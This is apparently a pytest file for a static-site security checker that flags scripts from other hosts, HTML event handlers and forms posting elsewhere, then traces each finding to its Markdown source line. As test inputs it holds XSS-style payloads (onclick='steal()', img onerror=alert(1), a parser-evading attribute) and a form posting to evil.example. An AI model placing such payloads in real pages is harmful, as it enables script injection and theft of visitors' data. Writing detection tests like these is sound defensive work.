"""Rendered pages checked as the browser gets them, and traced back to the source that made them."""

from __future__ import annotations

from conftest import write
from quanyi.checks.rendered import check_site, page_findings, sources_of
from quanyi.content.sources import load_project
from quanyi.problems import Problems


def is_content(tag: str, classes: str) -> bool:
    return tag == "main"


PAGE = """<!doctype html><html><head>
<link rel="stylesheet" href="/assets/site.css"><link rel="canonical" href="https://q.example.cn/x/">
<script src="/assets/app.js"></script></head><body>
<nav><a href="https://other.example/">a link</a></nav>
<main>{content}</main></body></html>"""


def test_theme_may_use_its_own_scripts_and_link_anywhere():
    assert page_findings(PAGE.format(content="<p>hello</p>"), is_content) == []


def test_theme_may_not_load_from_another_host():
    html = PAGE.replace("/assets/app.js", "https://cdn.example/app.js").format(content="")
    assert [f.message for f in page_findings(html, is_content)] == [
        "<script> loads https://cdn.example/app.js from another site: readers' phones would contact it"]


def test_content_gets_every_rule_as_an_html5_parser_sees_it():
    # an unclosed attribute quote and a slash as separator: the HTML5 parser still finds the handler
    content = '<p title="x"/onclick="steal()">text</p><img src=x onerror=alert(1)><form action="search/"></form>'
    found = [f.message for f in page_findings(PAGE.format(content=content), is_content)]
    assert found == ["HTML event attribute 'onclick=' is not allowed: it runs script",
                     "HTML event attribute 'onerror=' is not allowed: it runs script"]
    remote_form = '<form action="https://evil.example/collect" method="post"></form>'
    assert page_findings(PAGE.format(content=remote_form), is_content)[0].message.startswith("a form sends")


def test_pages_map_to_their_sources(mini):
    project = load_project(mini, Problems(mini))
    assert sources_of(project, "en/shaanxi/pay/index.html")[0].as_posix().endswith("hb/en/pay.md")
    assert sources_of(project, "about/index.html")[0].as_posix().endswith("docs/zh/about.md")


def test_finding_names_the_source_line(mini, tmp_path):
    write(mini, "handbooks/hb/zh/pay.md", (mini / "handbooks/hb/zh/pay.md").read_text(encoding="utf-8")
          + "\n工资按月发。{: onclick=\"steal()\" }\n")
    site = tmp_path / "site"
    write(site, "shaanxi/pay/index.html", PAGE.format(content='<p onclick="steal()">工资按月发。</p>'))
    problems = Problems(mini)
    project = load_project(mini, problems)
    assert check_site(site, project, problems, is_content) == 1
    assert [str(p) for p in problems.errors] == [
        "handbooks/hb/zh/pay.md:19: HTML event attribute 'onclick=' is not allowed: it runs script "
        "— remove the attribute"]
